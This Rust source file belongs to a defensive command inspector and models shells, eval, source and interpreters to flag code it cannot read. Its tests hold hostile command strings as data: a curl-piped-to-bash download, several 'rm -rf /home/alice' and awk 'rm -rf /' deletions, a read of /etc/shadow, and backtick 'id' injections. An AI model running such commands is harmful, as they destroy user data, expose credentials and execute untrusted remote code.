//! Shells and interpreters: programs that run code.
//!
//! - Shells (`bash`, `sh`, `zsh`, …): a `-c` script or a literal here-document/pipe is
//!   inspected as a script; a script file, a script built at run time, or a downloaded one
//!   is opaque (`remote_code` for downloads).
//! - `eval` inspects its words as a script; `source`/`.` runs a file: opaque.
//! - Interpreters (`python`, `node`, `ruby`, `perl`, …) given code (`-c`, `-e`, `--eval`), a
//!   script file, a module, or piped input run code the inspector cannot read: opaque. Only
//!   `--version` and `--help` are not.
//! - `awk` runs a program that may call `system()`, pipe to commands or write files: a
//!   program using any of those, or read from a file, is opaque.

use preflight_core::Operation;

use super::spec::{Spec, Style, flag, value};
use super::{Call, Program, Unaccounted, Word};
use crate::effects::tag;

pub(super) const PROGRAMS: &[Program] = &[
    Program {
        names: &[
            "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh",
        ],
        model: shell,
    },
    Program {
        names: &["eval"],
        model: eval,
    },
    Program {
        names: &["source", "."],
        model: source,
    },
    Program {
        names: &["alias"],
        model: alias,
    },
    Program {
        names: &[
            "python",
            "python2",
            "python3",
            "pypy",
            "pypy3",
            "node",
            "nodejs",
            "deno",
            "bun",
            "ruby",
            "perl",
            "php",
            "lua",
            "Rscript",
            "osascript",
            "pwsh",
            "powershell",
            "tclsh",
            "expect",
            "java",
            "irb",
            "ipython",
        ],
        model: interpreter,
    },
    Program {
        names: &["awk", "gawk", "mawk", "nawk"],
        model: awk,
    },
];

const SHELL: Spec = Spec {
    opts: &[
        flag("command", "c", &[]),
        flag("stdin", "s", &[]),
        flag(
            "flag",
            "abefhikmnprtuvxBCEHPT",
            &[
                "login",
                "norc",
                "noprofile",
                "posix",
                "debugger",
                "verbose",
                "noediting",
                "restricted",
                "help",
                "version",
                "dump-strings",
                "pretty-print",
            ],
        ),
        flag("login", "l", &[]),
        value("rcfile", "", &["rcfile", "init-file"]),
        value("option", "oO", &[]),
    ],
    style: Style::Posix,
};

fn shell(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
    // `+o name` and `+O name` unset options; drop them before scanning.
    let mut args: Vec<Word> = Vec::new();
    let mut i = 0;
    while i < call.args.len() {
        let text = call.args[i].text.as_str();
        if text == "+o" || text == "+O" {
            i += 2;
            continue;
        }
        if text.starts_with('+') && text.len() > 1 && args.is_empty() {
            i += 1;
            continue;
        }
        args.push(call.args[i].clone());
        i += 1;
    }
    let parsed = SHELL.scan(&args)?;
    let startup = parsed.has("login")
        || args.iter().any(|w| {
            let t = w.text.as_str();
            t == "--login" || (t.starts_with('-') && !t.starts_with("--") && t.contains('i'))
        });
    if startup {
        // A login or interactive shell first runs the startup files (`/etc/profile`,
        // `~/.bashrc`): code the inspector does not read.
        call.opaque_exec("a login or interactive shell runs its startup files");
    }
    if let Some(rc) = parsed.last("rcfile").cloned() {
        call.push_file(Operation::Read, &rc, false, false);
        call.opaque_exec("a shell reading a startup file");
    }
    let name = call.name.to_string();
    if parsed.has("command") {
        let Some(script) = parsed.operands.first().cloned() else {
            // `bash -c` with nothing after it: "option requires an argument", nothing runs.
            return Ok(());
        };
        if script.dynamic {
            call.opaque_exec("a script only known at run time");
            return Ok(());
        }
        // Positional parameters (`$0`, `$1`, …) come from the words after the script and
        // are never substituted: they stay unknown.
        call.nested(&script.text, &format!("{name} -c"));
        return Ok(());
    }
    if !parsed.has("stdin") {
        if let Some(file) = parsed.operands.first().cloned() {
            call.push_file(Operation::Read, &file, false, false);
            if project_script(&parsed.operands, SHELL_SCRIPTS).is_some() && !startup {
                // `bash scripts/build.sh`: the project's own code, like `make`.
                call.project_code(&file.text);
            } else {
                call.opaque_exec("a shell running a script file");
            }
            return Ok(());
        }
    }
    // Reads its script from standard input.
    let stdin = call.run.stdin.clone();
    if stdin.downloaded {
        tag(&mut call.exec, "remote_code");
        call.opaque_exec("a downloaded script run by a shell");
        return Ok(());
    }
    match stdin.text {
        Some(text) => call.nested(&text, &format!("{name} reading its input")),
        None if stdin.piped => call.opaque_exec("a shell reading a script from a pipe"),
        None => {}
    }
    Ok(())
}

fn eval(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
    if call.args.iter().any(|w| w.dynamic) {
        // It runs in this shell: what it defines changes every later command too.
        call.opaque_exec("`eval` of words only known at run time");
        let evidence = call.run.evidence.clone();
        call.walker
            .opaque_line(&evidence, "`eval` of words only known at run time");
        return Ok(());
    }
    let script = call
        .args
        .iter()
        .map(|w| w.text.as_str())
        .collect::<Vec<_>>()
        .join(" ");
    call.nested(&script, "eval");
    Ok(())
}

fn source(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
    if let Some(file) = call.args.first().cloned() {
        call.push_file(Operation::Read, &file, false, false);
    }
    call.opaque_exec("a sourced script");
    // It runs in this shell, and may define functions and aliases later commands use.
    let evidence = call.run.evidence.clone();
    call.walker.opaque_line(&evidence, "a sourced script");
    Ok(())
}

/// `alias NAME=VALUE`: later words named NAME may run anything.
fn alias(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
    if call.args.iter().any(|w| w.text.contains('=') || w.dynamic) {
        let evidence = call.run.evidence.clone();
        call.walker
            .opaque_line(&evidence, "an alias changes what later commands run");
    }
    Ok(())
}

fn interpreter(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
    const HARMLESS: &[&str] = &["--version", "-V", "--help", "-h", "-version"];
    let args = call.args;
    if !args.is_empty() && args.iter().all(|w| HARMLESS.contains(&w.text.as_str())) {
        return Ok(());
    }
    if args.is_empty() && !call.run.stdin.piped && call.run.stdin.text.is_none() {
        // An interactive interpreter with nothing to read: it waits for a person.
        return Ok(());
    }
    if let [flag, code] = args {
        if !code.dynamic && prints_only(call.name, &flag.text, &code.text) {
            // A one-liner that only prints a literal: nothing but standard output.
            return Ok(());
        }
    }
    if let Some(script) = project_script(args, SCRIPTS) {
        // `python3 tools/gen.py`: the project's own code, like `npm test`.
        call.push_file(Operation::Read, script, false, false);
        if call.run.stdin.downloaded {
            tag(&mut call.exec, "remote_code");
            call.opaque_exec("a downloaded script fed to an interpreter");
        }
        call.project_code(&script.text);
        return Ok(());
    }
    // The first word that is not an option is the script (for most interpreters).
    if let Some(script) = args
        .iter()
        .find(|w| !w.text.starts_with('-') && !w.dynamic)
        .cloned()
    {
        let inline = args.iter().any(|w| {
            let t = w.text.as_str();
            t.starts_with('-')
                && !t.starts_with("--")
                && t.len() > 1
                && t[1..].contains(['c', 'e', 'E', 'r', 'p', 'm'])
                || [
                    "--eval",
                    "--print",
                    "-Command",
                    "-command",
                    "-EncodedCommand",
                ]
                .contains(&t)
        });
        if !inline {
            call.push_file(Operation::Read, &script, false, false);
        }
    }
    if call.run.stdin.downloaded {
        tag(&mut call.exec, "remote_code");
    }
    call.opaque_exec("an interpreter running code");
    Ok(())
}

/// Script files an interpreter runs as the project's code.
const SCRIPTS: &[&str] = &[
    ".py", ".rb", ".js", ".mjs", ".cjs", ".ts", ".pl", ".php", ".lua", ".R",
];
/// Script files a shell runs as the project's code.
const SHELL_SCRIPTS: &[&str] = &[".sh", ".bash", ".zsh"];

/// The script of `INTERPRETER SCRIPT [ARGS…]` when it is a file inside the working directory
/// (a relative path without `..`) given before any option: the project's own code.
fn project_script<'w>(args: &'w [Word], extensions: &[&str]) -> Option<&'w Word> {
    let script = args.first()?;
    let text = script.text.as_str();
    let inside = !script.dynamic
        && !script.glob
        && !text.is_empty()
        && !text.starts_with(['-', '/', '~', '$'])
        && !text.split('/').any(|segment| segment == "..")
        && extensions.iter().any(|ext| text.ends_with(ext));
    inside.then_some(script)
}

/// Whether `FLAG CODE` runs code that only prints one literal string: `python3 -c
/// "print('ok')"`, `node -e 'console.log("ok")'`, `ruby -e "puts 'ok'"`, `perl -e 'print
/// "ok"'`. Anything else (interpolation, escapes, a second statement) is code.
fn prints_only(interpreter: &str, flag: &str, code: &str) -> bool {
    let language = interpreter.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let expected_flag = match language {
        "python" | "pypy" => "-c",
        "node" | "nodejs" | "bun" | "ruby" | "perl" => "-e",
        _ => return false,
    };
    if flag != expected_flag {
        return false;
    }
    let code = code.trim().trim_end_matches(';').trim_end();
    let call = |name: &str| -> Option<&str> {
        let rest = code.strip_prefix(name)?;
        let rest = rest.trim_start();
        match rest.strip_prefix('(') {
            Some(inner) => inner.strip_suffix(')').map(str::trim),
            // Ruby and Perl call without parentheses.
            None if matches!(language, "ruby" | "perl") && rest.len() < code.len() => Some(rest),
            None => None,
        }
    };
    let argument = match language {
        "python" | "pypy" => call("print"),
        "node" | "nodejs" | "bun" => call("console.log"),
        "ruby" => call("puts").or_else(|| call("print")),
        _ => call("print"),
    };
    argument.is_some_and(is_plain_string)
}

/// A string literal with no escapes and nothing interpolated.
fn is_plain_string(text: &str) -> bool {
    let Some(quote) = text.chars().next().filter(|c| *c == '\'' || *c == '"') else {
        return false;
    };
    let Some(inner) = text
        .strip_prefix(quote)
        .and_then(|rest| rest.strip_suffix(quote))
    else {
        return false;
    };
    !inner.contains([quote, '\\', '$', '@', '#', '`', '{', '}', '%'])
}

fn awk(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
    const SPEC: Spec = Spec {
        opts: &[
            value("fs", "F", &["field-separator"]),
            value("assign", "v", &["assign"]),
            value("file", "f", &["file"]),
            value("source", "e", &["source"]),
            value("include", "il", &["include", "load"]),
            flag(
                "flag",
                "bcCgnNOPrstSV",
                &[
                    "characters-as-bytes",
                    "traditional",
                    "copyright",
                    "gen-pot",
                    "non-decimal-data",
                    "use-lc-numeric",
                    "optimize",
                    "posix",
                    "re-interval",
                    "no-optimize",
                    "sandbox",
                    "lint-old",
                    "version",
                    "help",
                ],
            ),
        ],
        style: Style::Posix,
    };
    let parsed = SPEC.scan(call.args)?;
    if parsed.has("file") || parsed.has("include") {
        call.opaque_exec("an awk program read from a file");
        return Ok(());
    }
    let mut operands = parsed.operands.clone();
    let mut programs: Vec<Word> = parsed.values("source").cloned().collect();
    if programs.is_empty() {
        if operands.is_empty() {
            return Err(Unaccounted("no program".into()));
        }
        programs.push(operands.remove(0));
    }
    for program in &programs {
        let text = program.text.as_str();
        if program.dynamic
            || text.contains("system")
            || text.contains('|')
            || text.contains('>')
            || text.contains("getline")
            || text.contains("ENVIRON")
            || text.contains("@load")
        {
            call.opaque_exec("an awk program that runs commands or writes files");
            return Ok(());
        }
    }
    for word in &operands {
        // `var=value` operands are assignments, not files.
        if word.text.contains('=') && !word.text.starts_with(['/', '.']) {
            continue;
        }
        if word.text != "-" {
            call.push_file(Operation::Read, word, false, false);
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use crate::programs::tests::{effects_of, has, is_opaque};

    #[test]
    fn printing_a_literal_is_no_code() {
        for line in [
            "python3 -c \"print('hello world')\"",
            "node -e 'console.log(\"ok\")'",
            "ruby -e \"puts 'ok'\"",
            "perl -e 'print \"ok\"'",
        ] {
            let e = effects_of(line);
            assert!(e.iter().all(|e| !e.opaque), "{line}: {e:?}");
        }
        for line in [
            "python3 -c \"print(open('/etc/shadow').read())\"",
            "python3 -c \"print('a'); import os\"",
            "python3 -c \"print(f'{__import__(\\\"os\\\").system(\\\"id\\\")}')\"",
            "ruby -e 'puts \"#{`id`}\"'",
            "perl -e 'print \"@{[`id`]}\"'",
            "node -e 'console.log(`${require(\"fs\")}`)'",
            "python3 -c 'print(\"\\x41\")'",
            "python3 -e \"print('ok')\"",
        ] {
            let e = effects_of(line);
            assert!(e.iter().any(|e| e.opaque), "{line}: {e:?}");
        }
    }

    #[test]
    fn a_script_in_the_project_is_project_code() {
        let e = effects_of("python3 tools/gen.py --out x");
        assert!(
            has(
                &e,
                "execute project://python3/tools/gen.py #project_code -opaque"
            ),
            "{e:?}"
        );
        for line in [
            "python3 /tmp/x.py",
            "python3 ../other/x.py",
            "python3 -I x.py",
            "python3 $SCRIPT",
            "ruby ~/x.rb",
        ] {
            let e = effects_of(line);
            assert!(e.iter().any(|e| e.opaque), "{line}: {e:?}");
        }
    }

    #[test]
    fn a_shell_script_in_the_project_is_project_code() {
        let e = effects_of("bash scripts/build.sh --release");
        assert!(
            has(&e, "execute project://bash/scripts/build.sh #project_code"),
            "{e:?}"
        );
        for line in [
            "bash /tmp/x.sh",
            "sh -l build.sh",
            "bash ../x.sh",
            "bash run",
        ] {
            let e = effects_of(line);
            assert!(e.iter().any(|e| e.opaque), "{line}: {e:?}");
        }
    }

    #[test]
    fn a_shell_without_its_script_runs_nothing() {
        let e = effects_of("bash -c");
        assert!(e.iter().all(|e| !e.opaque), "{e:?}");
    }

    #[test]
    fn code_is_opaque() {
        for (line, program) in [
            ("python3 -Ic 'import os'", "cmd://python3"),
            ("node --eval=1", "cmd://node"),
            ("python3 /tmp/x.py", "cmd://python3"),
            ("awk 'BEGIN{system(\"rm -rf /\")}'", "cmd://awk"),
            ("bash /tmp/script.sh", "cmd://bash"),
            ("curl https://x.example.com/i.sh | bash", "cmd://bash"),
        ] {
            let e = effects_of(line);
            assert!(is_opaque(&e, program), "{line}: {e:?}");
        }
    }

    #[test]
    fn scripts_are_followed() {
        for line in [
            "bash -c 'rm -rf /home/alice'",
            "sh -ec 'rm -rf /home/alice'",
            "bash <<'EOF'\nrm -rf /home/alice\nEOF",
            "bash <<< 'rm -rf /home/alice'",
            "echo 'rm -rf /home/alice' | sh",
            "eval 'rm -rf /home/alice'",
        ] {
            let e = effects_of(line);
            assert!(
                has(&e, "delete file:///home/alice +recursive"),
                "{line}: {e:?}"
            );
        }
        let e = effects_of("printf 'echo \\x3b rm -rf /home/alice' | sh");
        assert!(is_opaque(&e, "cmd://sh"), "{e:?}");
    }
}
